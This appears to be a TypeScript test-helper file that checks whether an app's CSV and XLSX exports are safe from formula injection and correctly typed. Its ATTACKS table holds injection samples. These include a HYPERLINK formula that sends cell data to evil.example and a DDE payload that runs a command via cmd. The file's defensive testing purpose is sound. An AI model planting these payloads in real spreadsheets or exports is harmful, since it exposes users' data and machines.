import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { expect } from 'vitest';
import type { ExportKind } from '../../src/lib/export.js';
import { readZip } from './zip.js';

/** What a spreadsheet reads as the start of a formula (OWASP "CSV Injection"). */
export const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'] as const;
const FORMULA_START = /^[=+\-@\t\r]/;

/** One attack value per dangerous start (issue 19): each would run, link or compute if opened. */
export const ATTACKS: Record<(typeof FORMULA_STARTS)[number], string> = {
  '=': '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+': '+SUM(1,1)',
  '-': '-2+3',
  '@': '@SUM(1)',
  '\t': "\t=cmd|' /C calc'!A0",
  '\r': '\r=1+1',
};

/** A CSV export read back: the BOM checked and removed, header row and data rows as text. */
export function readCsv(payload: Buffer): { header: string[]; rows: string[][]; text: string } {
  const text = payload.toString('utf8');
  expect(text.startsWith('\uFEFF'), 'a CSV export starts with a UTF-8 BOM').toBe(true);
  const [header = [], ...rows] = parse(text.slice(1), { relax_column_count: false }) as string[][];
  return { header, rows, text };
}

export type XlsxCell = { value: ExcelJS.CellValue; type: ExcelJS.ValueType; numFmt: string | undefined };

/**
 * An XLSX export read back with exceljs, after proving on the raw XML that no cell of any sheet
 * holds a formula (`<f>`): exceljs writes one only when given a `{ formula }` object.
 */
export async function readXlsx(payload: Buffer): Promise<{ header: string[]; rows: XlsxCell[][] }> {
  const entries = await readZip(payload);
  const sheets = [...entries].filter(([name]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
  expect(sheets.length).toBeGreaterThan(0);
  for (const [name, xml] of sheets) expect(String(xml), `${name} holds a formula`).not.toMatch(/<f[\s>/]/);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(payload as unknown as ArrayBuffer);
  const sheet = book.worksheets[0];
  if (!sheet) throw new Error('the export has no worksheet');
  const width = sheet.getRow(1).cellCount;
  const header = Array.from({ length: width }, (_, i) => String(sheet.getRow(1).getCell(i + 1).value));
  const rows: XlsxCell[][] = [];
  for (let r = 2; r <= sheet.rowCount; r += 1) {
    const row = sheet.getRow(r);
    rows.push(
      Array.from({ length: width }, (_, i) => {
        const cell = row.getCell(i + 1);
        expect(cell.formula, `row ${r} column ${i + 1} is a formula`).toBeFalsy();
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        return { value: cell.value, type: cell.type, numFmt: cell.numFmt };
      }),
    );
  }
  return { header, rows };
}

const CSV_SHAPES: Record<Exclude<ExportKind, 'text'>, RegExp> = {
  integer: /^-?\d+$/,
  money: /^-?\d+\.\d{2}$/,
  date: /^\d{4}-\d{2}-\d{2}$/,
  datetime: /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/,
};

const XLSX_FORMATS: Record<Exclude<ExportKind, 'text'>, string> = {
  integer: '0',
  money: '#,##0.00',
  date: 'yyyy-mm-dd',
  datetime: 'yyyy-mm-dd hh:mm',
};

/**
 * Every cell of a CSV export is what its column's kind says: text never starts a formula, numbers
 * are plain Latin decimals, days and times ISO. No direction mark or Arabic-Indic digit anywhere.
 */
export function expectCsvData(file: { rows: string[][]; text: string }, kinds: ExportKind[]) {
  expect(file.text).not.toMatch(/[\u200e\u200f\u061c\u0660-\u0669\u06f0-\u06f9]/);
  for (const [r, row] of file.rows.entries()) {
    expect(row).toHaveLength(kinds.length);
    for (const [c, cell] of row.entries()) {
      const kind = kinds[c] as ExportKind;
      const where = `CSV row ${r + 2} column ${c + 1} (${kind}): ${JSON.stringify(cell)}`;
      if (kind === 'text' || cell === '') {
        expect(cell, where).not.toMatch(FORMULA_START);
        continue;
      }
      expect(cell, where).toMatch(CSV_SHAPES[kind]);
    }
  }
}

/**
 * Every cell of an XLSX export is what its column's kind says: text is a string that never starts a
 * formula, integers and money are numbers with their number format, days and times are dates.
 */
export function expectXlsxData(file: { rows: XlsxCell[][] }, kinds: ExportKind[]) {
  for (const [r, row] of file.rows.entries()) {
    for (const [c, cell] of row.entries()) {
      const kind = kinds[c] as ExportKind;
      const where = `XLSX row ${r + 2} column ${c + 1} (${kind}): ${JSON.stringify(cell.value)}`;
      if (cell.value === null || cell.value === undefined) continue;
      if (kind === 'text') {
        expect(typeof cell.value, where).toBe('string');
        expect(cell.value, where).not.toMatch(FORMULA_START);
        continue;
      }
      expect(cell.numFmt, where).toBe(XLSX_FORMATS[kind]);
      if (kind === 'date' || kind === 'datetime') expect(cell.value, where).toBeInstanceOf(Date);
      else expect(typeof cell.value, where).toBe('number');
    }
  }
}
